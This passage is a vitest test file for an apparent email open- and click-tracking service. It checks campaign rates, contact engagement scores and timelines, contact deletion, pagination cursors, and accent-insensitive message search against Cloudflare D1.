// Campaigns, contacts with engagement, the message list, CSV export and their account scoping (docs/protocol.md §12-14).
import { applyD1Migrations, createScheduledController, env } from "cloudflare:test";
import { describe, expect, it, vi } from "vitest";
import type {
  CampaignDetail,
  CampaignsResponse,
  ContactDetail,
  ContactSummary,
  ContactsResponse,
  ErrorResponse,
  MessagesResponse,
} from "../../shared/api";
import { type EngagementActivity, engagementScore } from "../../shared/engagement";
import { CAMPAIGN_NAME_MAX } from "../../shared/limits";
import { foldForSearch } from "../../shared/search";
import { purgeExpiredEvents } from "../src/db/retention";
import { foldStoredSearchText, recipientSearchText } from "../src/db/search-text";
import { hitFromRequest } from "../src/hits";
import worker from "../src/index";
import { deriveSigningKey } from "../src/keys";
import { storeHits } from "../src/queue";
import { d1WithWriteBeforeEachBatch, FlakyD1 } from "./faults";
import {
  ago,
  blankAccount,
  CHROME_UA,
  call,
  clickLink,
  countedCall,
  createAccount,
  DAY,
  FREE_PLAN_D1_QUERIES,
  GMAIL_PROXY_UA,
  HOUR,
  MINUTE,
  migrateRowsAcross,
  openPixel,
  reply,
  seedMessages,
  seedOpens,
  sentMessage,
  waitForEvents,
} from "./helpers";

describe("campaigns", () => {
  it("computes rates over sent from human events only, and ranks links by counted clicks", async () => {
    const account = await createAccount();
    const url = "https://example.com/pricing";
    const other = "https://example.com/blog";
    const links = [
      { index: 0, url },
      { index: 1, url: other },
    ];
    const a = await sentMessage(account, { campaign: " Q4 launch ", threadId: "t-a", links, recipients: [{ email: "a@acme.example" }] });
    const b = await sentMessage(account, { campaign: "Q4 launch", threadId: "t-b", links, recipients: [{ email: "b@acme.example" }] });
    // c opts out below, which holds for every account of the tracker: an address no other test sends to.
    const c = await sentMessage(account, { campaign: "Q4 launch", threadId: "t-c", links, recipients: [{ email: "c@opted-out.example" }] });
    const d = await sentMessage(account, { campaign: "Q4 launch", threadId: "t-d", links, recipients: [{ email: "d@acme.example" }] });
    // Registered as sent in an hour: hits now are the sender's own view (label sender), never counted.
    const e = await sentMessage(account, {
      campaign: "Q4 launch",
      threadId: "t-own",
      links,
      sentAt: new Date(Date.now() + HOUR).toISOString(),
    });
    await sentMessage(account, { campaign: "Other", threadId: "t-e" });
    await openPixel(a.id); // human
    await openPixel(b.id, { "user-agent": GMAIL_PROXY_UA }); // counted
    await openPixel(c.id, { "user-agent": "Mozilla/5.0" }); // Apple prefetch: not counted
    await openPixel(d.id, { "user-agent": "curl/8.0" }); // scanner: not counted
    await clickLink(account, a.id, 0, url);
    await clickLink(account, b.id, 0, url);
    await clickLink(account, a.id, 1, other, { method: "GET", headers: { "user-agent": "python-requests/2.0" } }); // scanner
    await openPixel(e.id);
    await clickLink(account, e.id, 1, other);
    await clickLink(account, e.id, 1, other);
    await clickLink(account, e.id, 1, other);
    await waitForEvents(e.id, 4);
    await waitForEvents(a.id, 3);
    await waitForEvents(b.id, 2);
    await waitForEvents(c.id, 1);
    await waitForEvents(d.id, 1);
    await reply(account, "t-a", "a@acme.example", "msg-f:ra");
    await account.json("POST", "/api/signals", {
      signals: [
        {
          kind: "bounce",
          threadId: "t-d",
          gmailMessageId: "msg-f:bd",
          at: ago(0),
          bounce: { kind: "hard", recipients: ["d@acme.example"] },
        },
      ],
    });
    await call(`/u/${c.id}`, { method: "POST" });

    const detail = await account.json<CampaignDetail>("GET", `/api/campaigns/${encodeURIComponent("Q4 launch")}`);
    expect(detail.status).toBe(200);
    expect(detail.body).toMatchObject({
      name: "Q4 launch",
      sent: 5,
      opened: 2,
      clicked: 2,
      replied: 1,
      bounced: 1,
      unsubscribed: 1,
      openRate: 0.4,
      clickRate: 0.4,
      replyRate: 0.2,
      bounceRate: 0.2,
      unsubscribeRate: 0.2,
    });
    expect(detail.body.topLinks).toEqual([{ url, clicks: 2, uniqueClicks: 2 }]);
    const labels = await env.DB.prepare("SELECT DISTINCT label FROM events WHERE message_id = ?").bind(e.id).all<{ label: string }>();
    expect(labels.results.map((r) => r.label)).toEqual(["sender"]);
    const list = await account.json<CampaignsResponse>("GET", "/api/campaigns?limit=1");
    expect(list.body.campaigns).toHaveLength(1);
    expect(list.body.nextCursor).toBeTruthy();
    const rest = await account.json<CampaignsResponse>("GET", `/api/campaigns?limit=1&cursor=${list.body.nextCursor}`);
    expect([...list.body.campaigns, ...rest.body.campaigns].map((x) => x.name).sort()).toEqual(["Other", "Q4 launch"]);
    expect(rest.body.nextCursor).toBeNull();
    expect([...list.body.campaigns, ...rest.body.campaigns].find((x) => x.name === "Other")).toMatchObject({ sent: 1, openRate: 0 });

    for (const name of ["A/B test", "50% off", "Ünïcode ✓"]) {
      await sentMessage(account, { campaign: name });
      const found = await account.json<CampaignDetail>("GET", `/api/campaigns/${encodeURIComponent(name)}`);
      expect(found.status, name).toBe(200);
      expect(found.body).toMatchObject({ name, sent: 1 });
    }
    const stranger = await createAccount();
    expect((await stranger.json("GET", `/api/campaigns/${encodeURIComponent("Q4 launch")}`)).status).toBe(404);
    expect((await stranger.json<CampaignsResponse>("GET", "/api/campaigns")).body.campaigns).toEqual([]);
    expect((await account.json<ErrorResponse>("GET", "/api/campaigns?limit=0")).status).toBe(400);
    expect((await account.json<ErrorResponse>("GET", "/api/campaigns?cursor=!!")).status).toBe(400);
    expect((await account.json<ErrorResponse>("GET", "/api/campaigns?cursor=abc")).status).toBe(400);
    expect((await account.json("GET", `/api/campaigns/${"x".repeat(101)}`)).status).toBe(400);
  });

  it("counts a campaign's messages with a bounce in effect: one per message, soft ones a later success cleared excepted", async () => {
    const account = await createAccount();
    const campaign = "Bounces";
    const notice = (threadId: string, kind: "hard" | "soft", recipients: string[]) => ({
      kind: "bounce",
      threadId,
      gmailMessageId: `msg-f:${threadId}`,
      at: ago(2 * HOUR),
      bounce: { kind, recipients },
    });
    const pair = [{ email: "x@acme.example" }, { email: "y@acme.example" }];
    await sentMessage(account, { campaign, threadId: "t-b-hard", recipients: pair, sentAt: ago(3 * HOUR) });
    await sentMessage(account, { campaign, threadId: "t-b-soft", recipients: [{ email: "s@acme.example" }], sentAt: ago(3 * HOUR) });
    const cleared = await sentMessage(account, {
      campaign,
      threadId: "t-b-clear",
      recipients: [{ email: "c@acme.example" }],
      sentAt: ago(3 * HOUR),
    });
    await sentMessage(account, { campaign, threadId: "t-b-none", sentAt: ago(3 * HOUR) });
    const signals = [
      notice("t-b-hard", "hard", ["x@acme.example", "y@acme.example"]),
      notice("t-b-soft", "soft", []),
      notice("t-b-clear", "soft", []),
    ];
    expect((await account.json("POST", "/api/signals", { signals })).status).toBe(200);
    await openPixel(cleared.id);
    await waitForEvents(cleared.id, 1);
    const detail = await account.json<CampaignDetail>("GET", `/api/campaigns/${campaign}`);
    expect(detail.body).toMatchObject({ sent: 4, bounced: 2, bounceRate: 0.5, opened: 1 });
  });
  it("counts a campaign's answered and opted-out emails after the retention purge took their reply and unsubscribe", async () => {
    const account = await createAccount();
    expect((await account.json("PATCH", "/api/account", { retentionDays: 1 })).status).toBe(200);
    const campaign = "Purged answers";
    const sentAt = ago(5 * DAY);
    const answered = await sentMessage(account, { campaign, sentAt, recipients: [{ email: "answers@acme.example" }] });
    const optedOut = await sentMessage(account, { campaign, sentAt, recipients: [{ email: "opts-out@acme.example" }] });
    await sentMessage(account, { campaign, sentAt, recipients: [{ email: "silent@acme.example" }] });
    await reply(account, answered.threadId ?? "", "answers@acme.example", "msg-f:campaign-answer");
    expect(
      (await call(`/u/${optedOut.id}`, { method: "POST", body: new URLSearchParams({ email: "opts-out@acme.example" }) })).status,
    ).toBe(200);
    const metrics = { sent: 3, replied: 1, replyRate: 0.3333, unsubscribed: 1, unsubscribeRate: 0.3333 };
    expect((await account.json<CampaignDetail>("GET", `/api/campaigns/${encodeURIComponent(campaign)}`)).body).toMatchObject(metrics);

    // Two days on, with a day's retention: the signals go, the emails stay answered and opted out of, as their status says.
    await purgeExpiredEvents(env.DB, env.SIGNING_SECRET ?? "", Date.now() + 2 * DAY);
    const signals = await env.DB.prepare("SELECT count(*) AS n FROM signals WHERE account_id = ?").bind(account.accountId).first();
    expect(signals).toEqual({ n: 0 });
    expect((await account.json<CampaignDetail>("GET", `/api/campaigns/${encodeURIComponent(campaign)}`)).body).toMatchObject(metrics);
    const list = await account.json<CampaignsResponse>("GET", "/api/campaigns");
    expect(list.body.campaigns.find((c) => c.name === campaign)).toMatchObject(metrics);
  });
});

describe("contacts", () => {
  /** A rep's contacts at `domain`: a test whose contact opts out gives its own, as an opt-out holds for every account. */
  async function setup(domain = "acme.example") {
    const account = await createAccount();
    const url = "https://example.com/x";
    const hot = await sentMessage(account, {
      campaign: "Hot",
      recipients: [{ email: `Hot@${domain}`, name: "Hot" }],
      links: [{ index: 0, url }],
    });
    const shared = await sentMessage(account, {
      threadId: "t-shared",
      recipients: [{ email: `hot@${domain}` }, { email: `warm@${domain}` }],
      subject: "Team intro",
    });
    await sentMessage(account, { recipients: [{ email: `cold@${domain}` }] });
    await openPixel(hot.id);
    await clickLink(account, hot.id, 0, url);
    await openPixel(shared.id);
    await waitForEvents(hot.id, 2);
    await waitForEvents(shared.id, 1);
    return { account, hot, shared };
  }

  it("lists contacts by score and by last activity, filters and pages", async () => {
    const { account } = await setup();
    const byScore = await account.json<ContactsResponse>("GET", "/api/contacts");
    expect(byScore.status).toBe(200);
    expect(byScore.body.contacts.map((c) => c.email)).toEqual(["hot@acme.example", "warm@acme.example", "cold@acme.example"]);
    const [hot, warm, cold] = byScore.body.contacts;
    expect(hot?.score).toBeCloseTo(4.5, 1); // open 1 + click 3 on its own email, half of one open on the shared one
    expect(warm?.score).toBeCloseTo(0.5, 1);
    expect(cold).toMatchObject({ score: 0, lastActivityAt: null, sent: 1 });
    expect(hot).toMatchObject({ name: "Hot", sent: 2, suppressed: false, optedOut: false });
    const byActivity = await account.json<ContactsResponse>("GET", "/api/contacts?sort=lastActivity");
    expect(byActivity.body.contacts.at(-1)?.email).toBe("cold@acme.example");
    const filtered = await account.json<ContactsResponse>("GET", "/api/contacts?campaign=Hot");
    expect(filtered.body.contacts.map((c) => c.email)).toEqual(["hot@acme.example"]);
    const minScore = await account.json<ContactsResponse>("GET", "/api/contacts?minScore=0.4");
    expect(minScore.body.contacts.map((c) => c.email)).toEqual(["hot@acme.example", "warm@acme.example"]);
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const page: { body: ContactsResponse } = await account.json<ContactsResponse>(
        "GET",
        `/api/contacts?limit=1${cursor ? `&cursor=${cursor}` : ""}`,
      );
      seen.push(...page.body.contacts.map((c) => c.email));
      cursor = page.body.nextCursor;
    } while (cursor);
    expect(seen).toEqual(["hot@acme.example", "warm@acme.example", "cold@acme.example"]);
    for (const query of ["sort=name", "limit=500", "minScore=-1", "cursor=%25%25", "cursor=WzFd"]) {
      expect((await account.json("GET", `/api/contacts?${query}`)).status, query).toBe(400);
    }
  });

  it("scores every page of one listing at its first page's time, so a later page neither repeats nor skips anyone", async () => {
    const { account } = await setup();
    const first = await account.json<ContactsResponse>("GET", "/api/contacts?limit=1");
    expect(first.body.contacts.map((c) => [c.email, c.score])).toEqual([["hot@acme.example", 4.5]]);
    // Four weeks later every score is a quarter of what it was: hot's 1.12 would sort after the cursor's 4.5 again.
    vi.useFakeTimers({ toFake: ["Date"], now: Date.now() + 28 * DAY });
    try {
      const rest: ContactSummary[] = [];
      for (let cursor = first.body.nextCursor; cursor; ) {
        const page: { body: ContactsResponse } = await account.json<ContactsResponse>("GET", `/api/contacts?limit=1&cursor=${cursor}`);
        rest.push(...page.body.contacts);
        cursor = page.body.nextCursor;
      }
      expect(rest.map((c) => [c.email, c.score])).toEqual([
        ["warm@acme.example", 0.5],
        ["cold@acme.example", 0],
      ]);
      // A new listing scores at its own time.
      expect((await account.json<ContactsResponse>("GET", "/api/contacts?limit=1")).body.contacts[0]?.score).toBeCloseTo(1.12, 1);
    } finally {
      vi.useRealTimers();
    }
  });

  it("scores repeats in time order across both counting labels (the first ten of each kind per email), and takes the latest counted hit as last activity", async () => {
    const now = Date.now();
    vi.useFakeTimers({ toFake: ["Date"], now });
    try {
      const account = await createAccount();
      const url = "https://example.com/fan";
      const message = await sentMessage(account, {
        recipients: [{ email: "fan@acme.example" }],
        links: [{ index: 0, url }],
        sentAt: new Date(now - 30 * DAY).toISOString(),
      });
      const accountKey = await deriveSigningKey(env.SIGNING_SECRET ?? "", account.accountId, account.key.keyId);
      const hit = async (occurredAt: number, userAgent: string, kind: "open" | "click" = "open") => {
        const request = new Request(`https://t.example/o/${message.id}.gif`, { headers: { "user-agent": userAgent } });
        const linkIndex = kind === "click" ? 0 : null;
        await storeHits(env.DB, [
          await hitFromRequest(request, { accountId: account.accountId, messageId: message.id, accountKey, kind, linkIndex }, occurredAt),
        ]);
      };
      const activities: EngagementActivity[] = [];
      // Ten opens through Google's proxy four weeks ago (two half-lives), then ten in a browser today: the old ones
      // are the email's first ten opens, so the new ones add (next to) nothing.
      for (let i = 0; i < 10; i++) {
        await hit(now - 28 * DAY + i * MINUTE, GMAIL_PROXY_UA);
        activities.push({ emailId: message.id, kind: "open", at: now - 28 * DAY + i * MINUTE, share: 1 });
      }
      for (let i = 0; i < 10; i++) await hit(now - HOUR + i * MINUTE, CHROME_UA);
      await hit(now - 2 * HOUR, CHROME_UA, "click");
      activities.push({ emailId: message.id, kind: "click", at: now - 2 * HOUR, share: 1 });
      await hit(now - MINUTE, "Mozilla/5.0"); // Apple's prefetch: counts for nothing, not even last activity
      const { body } = await account.json<ContactsResponse>("GET", "/api/contacts");
      const fan = body.contacts.find((c) => c.email === "fan@acme.example");
      expect(fan?.score).toBeCloseTo(engagementScore(activities, now), 1);
      expect(fan?.score).toBeLessThan(4); // the recent opens ranked first would score about 5
      expect(fan?.lastActivityAt).toBe(new Date(now - HOUR + 9 * MINUTE).toISOString());
    } finally {
      vi.useRealTimers();
    }
  });

  it("shows a timeline across every email, marking activity on shared emails", async () => {
    const { account, hot, shared } = await setup();
    await reply(account, "t-shared", "warm@acme.example", "msg-f:w1");
    const res = await account.json<ContactDetail>("GET", `/api/contacts/${encodeURIComponent("HOT@acme.example")}`);
    expect(res.status).toBe(200);
    expect(res.body.contact).toMatchObject({ email: "hot@acme.example", sent: 2, name: "Hot" });
    expect(res.body.contact.score).toBeCloseTo(4.5, 1); // the same score as in the list: warm's reply is warm's
    const kinds = res.body.timeline.map((t) => `${t.kind}:${t.messageId === hot.id ? "own" : "shared"}:${t.shared}`).sort();
    // warm's reply on the shared email is warm's, not hot's.
    expect(kinds).toEqual(["click:own:false", "open:own:false", "open:shared:true", "sent:own:false", "sent:shared:true"]);
    expect(res.body.timeline.find((t) => t.kind === "click")?.url).toBe("https://example.com/x");
    const times = res.body.timeline.map((t) => t.at);
    expect([...times].sort().reverse()).toEqual(times);
    const warm = await account.json<ContactDetail>("GET", "/api/contacts/warm@acme.example");
    expect(warm.body.timeline.find((t) => t.kind === "reply")).toMatchObject({
      messageId: shared.id,
      shared: false,
      subject: "Team intro",
    });
    const page = await account.json<ContactDetail>("GET", "/api/contacts/hot@acme.example?limit=2");
    expect(page.body.timeline).toHaveLength(2);
    const next = await account.json<ContactDetail>("GET", `/api/contacts/hot@acme.example?limit=10&cursor=${page.body.nextCursor}`);
    expect(next.body.timeline).toHaveLength(3);
    expect(next.body.nextCursor).toBeNull();
    expect((await account.json("GET", "/api/contacts/nobody@acme.example")).status).toBe(404);
    expect((await account.json("GET", "/api/contacts/not-an-address")).status).toBe(400);
    const stranger = await createAccount();
    expect((await stranger.json("GET", "/api/contacts/hot@acme.example")).status).toBe(404);
    expect((await stranger.json("DELETE", "/api/contacts/hot@acme.example")).status).toBe(404);
    expect((await stranger.json<ContactsResponse>("GET", "/api/contacts")).body.contacts).toEqual([]);
  });

  it("pages a timeline one item at a time, items of the same millisecond and every kind of signal each once", async () => {
    const account = await createAccount();
    const email = await sentMessage(account, {
      threadId: "t-paged",
      recipients: [{ email: "paged@acme.example" }, { email: "peer@acme.example" }],
    });
    // Three opens in one millisecond: the page's position must carry more than the time.
    const at = Date.now() - HOUR;
    await env.DB.batch(
      [1, 2, 3].map((n) =>
        env.DB.prepare(
          `INSERT INTO events (event_id, account_id, message_id, kind, occurred_at, inserted_at, request_label, label)
           VALUES (?, ?, ?, 'open', ?, ?, 'human', 'human')`,
        ).bind(`same-ms-${n}`, account.accountId, email.id, at, at),
      ),
    );
    const signal = (gmailMessageId: string, fields: Record<string, unknown>) =>
      account.json("POST", "/api/signals", { signals: [{ threadId: "t-paged", gmailMessageId, at: ago(0), ...fields }] });
    await signal("msg-f:outsider", { kind: "reply", from: "outsider@elsewhere.example" }); // shared: not a recipient
    await signal("msg-f:peer", { kind: "reply", from: "peer@acme.example" }); // the peer's own: not on this timeline
    await signal("msg-f:unnamed", { kind: "bounce", bounce: { kind: "soft", recipients: [] } }); // shared: names no one
    const path = "/api/contacts/paged%40acme.example";
    const whole = (await account.json<ContactDetail>("GET", path)).body;
    expect(whole.timeline.map((t) => `${t.kind}:${t.shared}:${t.bounceKind}`).sort()).toEqual([
      "bounce:true:soft",
      "open:true:null",
      "open:true:null",
      "open:true:null",
      "reply:true:null",
      "sent:true:null",
    ]);
    const paged: ContactDetail["timeline"] = [];
    let cursor: string | null = "";
    while (cursor !== null) {
      const page: ContactDetail = (await account.json<ContactDetail>("GET", `${path}?limit=1${cursor && `&cursor=${cursor}`}`)).body;
      paged.push(...page.timeline);
      cursor = page.nextCursor;
    }
    expect(paged).toEqual(whole.timeline);
  });

  it("deleting a contact deletes its emails' events, keeps shared emails' events, and keeps its opt-out", async () => {
    const { account, hot, shared } = await setup("opted-out.example");
    await reply(account, "t-shared", "hot@opted-out.example", "msg-f:h1");
    await call(`/u/${hot.id}`, { method: "POST" });
    expect((await account.json("DELETE", "/api/contacts/Hot@opted-out.example")).status).toBe(204);
    const count = async (sql: string, ...binds: string[]) =>
      (
        await env.DB.prepare(sql)
          .bind(...binds)
          .first<{ n: number }>()
      )?.n;
    expect(await count("SELECT count(*) AS n FROM events WHERE message_id = ?", hot.id)).toBe(0);
    expect(await count("SELECT count(*) AS n FROM events WHERE message_id = ?", shared.id)).toBe(1);
    const mine = account.accountId;
    expect(await count("SELECT count(*) AS n FROM signals WHERE account_id = ? AND email = ?", mine, "hot@opted-out.example")).toBe(0);
    expect(
      await count("SELECT count(*) AS n FROM message_recipients WHERE account_id = ? AND email = ?", mine, "hot@opted-out.example"),
    ).toBe(0);
    expect(
      await count("SELECT count(*) AS n FROM messages WHERE account_id = ? AND lower(recipients) LIKE ?", mine, "%hot@opted-out.example%"),
    ).toBe(0);
    expect((await account.json("GET", "/api/contacts/hot@opted-out.example")).status).toBe(404);
    expect((await account.json("GET", `/api/messages/${hot.id}`)).status).toBe(404);
    const checked = await account.json<{ contacts: { optedOut: boolean }[] }>("POST", "/api/contacts/check", {
      emails: ["hot@opted-out.example"],
    });
    expect(checked.body.contacts[0]?.optedOut).toBe(true);
    expect((await account.json("DELETE", "/api/contacts/hot@opted-out.example")).status).toBe(404);
  });

  it("deleting a contact of many emails takes one request within the free plan's D1 queries, and deletes them all", async () => {
    const account = await createAccount();
    // One D1 batch per email made 60 queries here and failed at the 51st, with part of the contact deleted.
    const own = 60;
    for (let i = 0; i < own; i += 10) {
      await Promise.all(
        Array.from({ length: 10 }, (_, k) =>
          sentMessage(account, { threadId: `t-many-${i + k}`, recipients: [{ email: "many@acme.example" }] }),
        ),
      );
    }
    const shared = await sentMessage(account, {
      threadId: "t-many-shared",
      recipients: [{ email: "many@acme.example" }, { email: "other@acme.example" }],
    });
    const { response, d1Queries } = await countedCall(account, "/api/contacts/many%40acme.example", "DELETE");
    expect(response.status).toBe(204);
    expect(d1Queries).toBeLessThanOrEqual(FREE_PLAN_D1_QUERIES);
    const left = await env.DB.prepare("SELECT count(*) AS n FROM messages WHERE account_id = ? AND deleted_at IS NULL")
      .bind(account.accountId)
      .first<{ n: number }>();
    expect(left?.n).toBe(1);
    expect((await account.json<ContactDetail>("GET", "/api/contacts/other%40acme.example")).body.timeline.map((t) => t.messageId)).toEqual([
      shared.id,
    ]);
    expect((await account.json("GET", "/api/contacts/many%40acme.example")).status).toBe(404);
  });

  it("shows the timeline of a contact of thousands of emails within the free plan's D1 queries, taking only the page's rows", async () => {
    const account = await createAccount();
    // A batch of statements per 45 emails made 56 queries here, past the 50 a request may make on the free plan; the
    // request makes 4 with the timeline read in one call (both counted on 2026-12-01).
    const emails = 2_300;
    await seedMessages(account, emails);
    await env.DB.prepare("UPDATE message_recipients SET email = 'big@acme.example' WHERE account_id = ?").bind(account.accountId).run();
    await seedOpens(account, emails);
    const { response, d1Queries } = await countedCall(account, "/api/contacts/big%40acme.example?limit=500");
    expect(response.status).toBe(200);
    expect(d1Queries).toBeLessThanOrEqual(FREE_PLAN_D1_QUERIES);
    const detail = (await response.json()) as ContactDetail;
    expect(detail.contact.sent).toBe(emails);
    // Newest first: the opens (an hour ago) before the emails (a day ago), one open per email.
    expect(detail.timeline).toHaveLength(500);
    expect(new Set(detail.timeline.map((t) => t.kind))).toEqual(new Set(["open"]));
    expect(new Set(detail.timeline.map((t) => t.messageId)).size).toBe(500);
    // The worker takes from D1 only the page's items: the whole history (the 2,300 emails and their opens) came
    // back for every page before. Both calls come after the first, which also read the account (then cached in KV)
    // and scored the contact from its emails: they read its stored row.
    const rows = async (limit: number) => (await countedCall(account, `/api/contacts/big%40acme.example?limit=${limit}`)).d1RowsReturned;
    expect((await rows(500)) - (await rows(50))).toBe(450);
    // A later page reads only what is older than its position: past the 2,300 opens, neither their index rows nor
    // the sort's rows, about 2 rows an open fewer than the first page. Reading them and keeping the older ones would
    // save only the sort's row. That local D1 counts each row its sort takes as read was measured here (workerd
    // 1.20261023.1, 2026-12-01: 20,999 rows read for 20,200 items without ORDER BY … LIMIT, 41,199 with it). Cloudflare's
    // D1 metrics page (developers.cloudflare.com/d1/observability/metrics-analytics/, read 2026-12-01) calls them
    // "rows read (scanned)" and does not say how a sort counts.
    let afterOpens = "";
    for (let page = 0; page < emails / 460; page++) {
      const path = `/api/contacts/big%40acme.example?limit=460${afterOpens && `&cursor=${afterOpens}`}`;
      afterOpens = (await account.json<ContactDetail>("GET", path)).body.nextCursor ?? "";
    }
    const first = await countedCall(account, "/api/contacts/big%40acme.example?limit=50");
    const afterAllOpens = await countedCall(account, `/api/contacts/big%40acme.example?limit=50&cursor=${afterOpens}`);
    expect(((await afterAllOpens.response.json()) as ContactDetail).timeline.map((t) => t.kind)).toEqual(Array(50).fill("sent"));
    expect(first.d1RowsRead - afterAllOpens.d1RowsRead).toBeGreaterThan(1.5 * emails);
  });

  it("deleting one recipient of a shared email does not make the others its sole recipients", async () => {
    const { account, shared } = await setup();
    const bounce = { kind: "soft", recipients: ["warm@acme.example"] };
    await account.json("POST", "/api/signals", {
      signals: [{ kind: "bounce", threadId: "t-shared", gmailMessageId: "msg-f:soft", at: ago(0), bounce }],
    });
    await openPixel(shared.id); // an open of a shared email clears nobody's soft bounce: it may be the other recipient's
    await waitForEvents(shared.id, 2);
    const warm = async () => {
      const check = await account.json<{ contacts: { bounceKind: string | null }[] }>("POST", "/api/contacts/check", {
        emails: ["warm@acme.example"],
      });
      const detail = await account.json<ContactDetail>("GET", "/api/contacts/warm@acme.example");
      return { bounceKind: check.body.contacts[0]?.bounceKind, detail: detail.body };
    };
    const before = await warm();
    expect(before.bounceKind).toBe("soft");
    expect((await account.json("DELETE", "/api/contacts/hot@acme.example")).status).toBe(204);
    const after = await warm();
    expect(after.bounceKind).toBe("soft");
    expect(after.detail.contact.score).toBeCloseTo(before.detail.contact.score, 2); // still half of each open
    expect(after.detail.timeline.filter((t) => t.kind === "open").every((t) => t.shared)).toBe(true);
    const row = await env.DB.prepare("SELECT recipient_count FROM messages WHERE id = ?")
      .bind(shared.id)
      .first<{ recipient_count: number }>();
    expect(row?.recipient_count).toBe(2);
  });
});

describe("a list's next page", () => {
  it("follows the longest campaign name and address the tracker takes: a cursor holds them", async () => {
    const account = await createAccount();
    // 100 characters of three UTF-8 bytes each, and 319 characters of two: the cursors after them pass 400 characters.
    const campaign = "販".repeat(CAMPAIGN_NAME_MAX);
    const address = `${"ü".repeat(64)}@${"ö".repeat(250)}.de`;
    await sentMessage(account, {
      campaign: "Short",
      recipients: [{ email: "short@acme.example" }],
      sentAt: new Date(Date.now() - 2 * HOUR).toISOString(),
    });
    await sentMessage(account, { campaign, recipients: [{ email: address }] });
    for (const [list, key, expected] of [
      ["campaigns?limit=1", "campaigns", [campaign, "Short"]],
      ["contacts?limit=1&sort=lastActivity", "contacts", [address, "short@acme.example"]],
      ["contacts?limit=1&sort=score", "contacts", [address, "short@acme.example"]],
    ] as const) {
      const seen: string[] = [];
      for (let cursor: string | null | undefined; cursor !== null; ) {
        const page = await account.json<{ nextCursor: string | null } & Record<string, { name?: string; email?: string }[]>>(
          "GET",
          `/api/${list}${cursor ? `&cursor=${cursor}` : ""}`,
        );
        expect(page.status, `${list} after ${seen.length}`).toBe(200);
        seen.push(...(page.body[key] ?? []).map((item) => item.name ?? item.email ?? ""));
        cursor = page.body.nextCursor;
      }
      expect(seen.sort(), list).toEqual([...expected].sort());
    }
  });
});

describe("message list", () => {
  it("lists newest first with campaign, state and text filters, paginated", async () => {
    const account = await createAccount();
    const old = await sentMessage(account, { subject: "Old news", sentAt: ago(5 * HOUR), campaign: "C1" });
    const mid = await sentMessage(account, {
      subject: "50% off_sale",
      sentAt: ago(3 * HOUR),
      recipients: [{ email: "Pat@Globex.example" }],
    });
    const fresh = await sentMessage(account, { subject: "Fresh", sentAt: ago(HOUR), campaign: "C1" });
    await openPixel(mid.id);
    await waitForEvents(mid.id, 1);
    const all = await account.json<MessagesResponse>("GET", "/api/messages");
    expect(all.body.messages.map((m) => m.id)).toEqual([fresh.id, mid.id, old.id]);
    expect(all.body.messages[1]).toMatchObject({ state: "opened", subject: "50% off_sale", campaign: null });
    const page1 = await account.json<MessagesResponse>("GET", "/api/messages?limit=2");
    const page2 = await account.json<MessagesResponse>("GET", `/api/messages?limit=2&cursor=${page1.body.nextCursor}`);
    expect([...page1.body.messages, ...page2.body.messages].map((m) => m.id)).toEqual([fresh.id, mid.id, old.id]);
    expect(page2.body.nextCursor).toBeNull();
    const ids = async (query: string) =>
      (await account.json<MessagesResponse>("GET", `/api/messages?${query}`)).body.messages.map((m) => m.id);
    expect(await ids("campaign=C1")).toEqual([fresh.id, old.id]);
    expect(await ids("state=opened")).toEqual([mid.id]);
    expect(await ids("state=delivered&limit=1")).toEqual([fresh.id]);
    expect(await ids("q=globex")).toEqual([mid.id]);
    expect(await ids("q=%25")).toEqual([mid.id]); // a literal %, not a wildcard
    expect(await ids("q=f_s")).toEqual([mid.id]);
    expect(await ids("q=OLD")).toEqual([old.id]);
    for (const query of ["state=read", "limit=0", "cursor=zz", `q=${"x".repeat(201)}`]) {
      expect((await account.json("GET", `/api/messages?${query}`)).status, query).toBe(400);
    }
    expect((await (await createAccount()).json<MessagesResponse>("GET", "/api/messages")).body.messages).toEqual([]);
  });

  it("finds names and subjects that start with an accented capital, whatever the case and accents typed, old rows too", async () => {
    const account = await createAccount();
    const toEmilie = await sentMessage(account, {
      subject: "Proposal",
      recipients: [{ email: "e.durand@acme.example", name: "Émilie Durand" }],
    });
    const eclair = await sentMessage(account, { subject: "Éclair pricing", recipients: [{ email: "buyer@acme.example" }] });
    const ascii = await sentMessage(account, { subject: "Old news 50%", recipients: [{ email: "Pat@Globex.example", name: "Pat Lee" }] });
    const ids = async (q: string) =>
      (await account.json<MessagesResponse>("GET", `/api/messages?q=${encodeURIComponent(q)}`)).body.messages.map((m) => m.id);
    for (const q of ["Émilie", "émilie", "emilie", "EMILIE", "E\u0301milie", "émilie durand e.durand"])
      expect(await ids(q), q).toEqual([toEmilie.id]);
    for (const q of ["Éclair", "éclair", "eclair", "ÉCLAIR PRICING"]) expect(await ids(q), q).toEqual([eclair.id]);
    // ASCII searches as before: any case, names and addresses, % and _ literal.
    for (const q of ["OLD", "news", "pat lee", "globex.EXAMPLE", "50%"]) expect(await ids(q), q).toEqual([ascii.id]);
    expect(await ids("acme.example")).toEqual([eclair.id, toEmilie.id]);
    // Wildcards stay literal, a full-width one too (folded to %).
    for (const q of ["d_rand", "d％n"]) expect(await ids(q), q).toEqual([]);

    // An email registered before migration 0018, written as the code before it wrote it: no search text.
    const old = `old-${crypto.randomUUID()}`;
    const sentAt = Date.now() - 400 * DAY;
    await env.DB.batch([
      env.DB.prepare(
        `INSERT INTO messages (id, account_id, thread_id, subject, recipients, sent_at, registered_at, updated_at, recipient_count)
         VALUES (?1, ?2, 't-old', 'Élan renewal', json_array(json_object('email', 'elodie@acme.example', 'name', 'Élodie Martin')), ?3, ?3, ?3, 1)`,
      ).bind(old, account.accountId, sentAt),
      env.DB.prepare(
        "INSERT INTO message_recipients (message_id, account_id, email, name) VALUES (?, ?, 'elodie@acme.example', 'Élodie Martin')",
      ).bind(old, account.accountId),
    ]);
    // Found once the hourly run has folded its text.
    await worker.scheduled(createScheduledController({ scheduledTime: Date.now(), cron: "23 * * * *" }), env);
    for (const q of ["Élodie", "élodie", "elodie martin", "Élan", "elan", "ELAN RENEWAL"]) expect(await ids(q), q).toEqual([old]);
    expect(await ids("acme.example")).toEqual([eclair.id, toEmilie.id, old]);
  });

  it("finds an email by its whole subject, longer than D1's 50 bytes for a LIKE pattern, wildcards literal", async () => {
    const account = await createAccount();
    const subject = "Réunion de suivi n°12 — proposition tarifaire pour Société Générale";
    const meeting = await sentMessage(account, { subject });
    const offer = await sentMessage(account, { subject: "Offre 100% remisée pour le_client_prioritaire de Société Générale" });
